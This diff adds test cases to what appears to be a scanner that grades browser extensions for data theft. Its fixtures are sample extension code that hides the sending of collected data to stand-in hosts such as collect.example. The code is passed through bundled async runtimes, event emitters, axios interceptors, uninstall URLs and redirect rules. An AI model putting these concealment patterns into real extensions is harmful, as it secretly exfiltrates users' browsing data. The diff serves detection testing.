@@ -311,3 +311,83 @@ it('steps that wait, as Babel has compiled them since 7.27', async () => {
   expect(await graded({ background: background(TAKEN) })).toBe('F');
   expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
 });
+
+it.each([
+  ['in the function around a bundle', 'CODE'],
+  [
+    'in a module of a bundle',
+    '!function () { var m = { 1: function (e, t, n) { CODE } }, c = {}; function r(i) { var a = c[i]; if (a !== undefined) return a.exports; var b = c[i] = { exports: {} }; return m[i](b, b.exports, r), b.exports; } r(1); }();',
+  ],
+])('what stands beside a runtime of generators, %s', async (_, bundle) => {
+  const runtime = `function _regenerator() { function i(o) { return function () { throw TypeError("Generator is already running"); }; } function p(r) { return r; } return (_regenerator = function _regenerator() { return { w: i, m: p }; })(); }
+    function _asyncToGenerator(n) { return function () { var t = this, e = arguments; return new Promise(function (r, o) { var a = n.apply(t, e); function next(v) { step(a, r, o, next, fail, 'next', v); } function fail(v) { step(a, r, o, next, fail, 'throw', v); } next(void 0); }); }; }
+    function step(n, t, e, r, o, a, c) { try { var i = n[a](c), u = i.value; } catch (n) { return void e(n); } i.done ? t(u) : Promise.resolve(u).then(r, o); }`;
+  const tell = `function tell(all) { return _tell.apply(this, arguments); } function _tell() { _tell = _asyncToGenerator(_regenerator().m(function _callee(all) { return _regenerator().w(function (_context) { while (1) switch (_context.n) { case 0: _context.n = 1; return ${send('all')}; case 1: return _context.a(2); } }, _callee); })); return _tell.apply(this, arguments); }`;
+  const background = (data: string): string =>
+    `(function () { ${bundle.replace('CODE', () => `${runtime} ${tell} ${data}.then(function (all) { tell(all); });`)} })();`;
+  expect(await graded({ background: background(TAKEN) })).toBe('F');
+  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
+});
+
+it('events of a library that is in the bundle', async () => {
+  // As Node's events are packed for browsers: it is told whom to run by a function of the platform that it looked for.
+  const library = `var R = typeof Reflect === 'object' ? Reflect : null; var run = R && typeof R.apply === 'function' ? R.apply : function (f, self, args) { return Function.prototype.apply.call(f, self, args); };
+    function Bus() { Bus.init.call(this); } Bus.init = function () { this._events = Object.create(null); };
+    function add(bus, type, heard) { var events = bus._events, known = events[type]; if (known === undefined) known = events[type] = heard; else if (typeof known === 'function') known = events[type] = [known, heard]; else known.push(heard); return bus; }
+    Bus.prototype.on = function on(type, heard) { return add(this, type, heard); };
+    Bus.prototype.emit = function emit(type) { var args = []; for (var i = 1; i < arguments.length; i++) args.push(arguments[i]); var known = this._events[type]; if (known === undefined) return false; if (typeof known === 'function') run(known, this, args); else for (var n = 0; n < known.length; ++n) run(known[n], this, args); return true; };`;
+  const background = (data: string): string =>
+    `(function () { ${library} var bus = new Bus(); bus.on('all', function (all) { ${send('all')}; }); ${data}.then(function (all) { bus.emit('all', all); }); })();`;
+  expect(await graded({ background: background(TAKEN) })).toBe('F');
+  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
+});
+
+it.each(['cfg.data = { ...cfg.data, ctx: jar }; return cfg;', 'return { ...cfg, headers: { ctx: jar } };'])(
+  'what is put into each request of a client: %s',
+  async (put) => {
+    const background = (of: string, made: string): string =>
+      `class Rates { http = ${made}; constructor() { this.http.interceptors.${of}.use((cfg) => this.put(cfg)); } put(cfg) { ${put} } get() { return this.http.post('/latest', { base: 'EUR' }); } } let jar = ''; const rates = new Rates(); chrome.alarms.onAlarm.addListener(() => rates.get()); ${TAKEN}.then((all) => { jar = JSON.stringify(all); });`;
+    const imported = "axios.create({ baseURL: 'https://rates.collect.example/v3' })";
+    expect(await graded({ background: `import axios from 'axios'; ${background('request', imported)}` })).toBe('F');
+    const bundled = `((lib) => { ${background('request', imported.replace('axios', 'lib'))} })(...self.load());`;
+    expect(await graded({ background: bundled })).toMatch(/^[DF]/);
+    expect(await graded({ background: `import axios from 'axios'; ${background('response', imported)}` })).toMatch(
+      /^A/,
+    );
+  },
+);
+
+it('a client in a field of a class', async () => {
+  const background = (told: string): string =>
+    `import axios from 'axios'; class Api { #http = axios.create({ baseURL: 'https://collect.example/v1' }); tell(x) { return this.#http.post('/rows', x); } } const api = new Api(); ${TAKEN}.then((all) => api.tell(${told}));`;
+  expect(await graded({ background: background('all') })).toBe('F');
+  expect(await graded({ background: background('1') })).toMatch(/^A/);
+});
+
+it('what a server has a rule put behind addresses, made in one script and set in another', async () => {
+  const grade = async (action: string): Promise<string> => {
+    const { score } = await analyze(
+      memoryTree({
+        'manifest.json':
+          '{"manifest_version":3,"name":"Agents","version":"1","permissions":["storage","alarms","declarativeNetRequest"],"host_permissions":["<all_urls>"],"background":{"service_worker":"background.js","type":"module"}}',
+        'background.js':
+          "import { load, rules } from './keep.js'; chrome.alarms.onAlarm.addListener(load); chrome.storage.onChanged.addListener(async () => { const { keep = [] } = await chrome.storage.local.get('keep'); chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules(keep) }); });",
+        'keep.js': `export async function load() { const { keep } = await (await fetch('https://lists.example/keep')).json(); await chrome.storage.local.set({ keep }); } export const rules = (list) => list.map(({ host, key, value }, i) => ({ id: i + 1, action: ${action}, condition: { requestDomains: [host] } }));`,
+      }),
+      { kind: 'extension' },
+    );
+    return score.grade;
+  };
+  const added =
+    "{ type: 'redirect', redirect: { transform: { queryTransform: { addOrReplaceParams: [{ key, value }] } } } }";
+  expect(await grade(added)).toMatch(/^[CDF]/);
+  expect(await grade("{ type: 'redirect', redirect: { extensionPath: '/held.html?' + key } }")).toMatch(/^[AB]/);
+  expect(await grade("{ type: 'block' }")).toMatch(/^[AB]/);
+});
+
+it('sites that were counted, in the address of the page that opens at last', async () => {
+  const background = (told: string): string =>
+    `chrome.tabs.onUpdated.addListener(async (id, change, tab) => { const { seen = [] } = await chrome.storage.local.get('seen'); await chrome.storage.local.set({ seen: [...seen, tab.url] }); }); chrome.alarms.onAlarm.addListener(async () => { const { seen = [] } = await chrome.storage.local.get('seen'); chrome.runtime.setUninstallURL('https://bye.collect.example/?r=' + ${told}); });`;
+  expect(await graded({ background: background("seen.join(',')") })).toMatch(/^[CDF]/);
+  expect(await graded({ background: background('seen.length') })).toMatch(/^A/);
+});
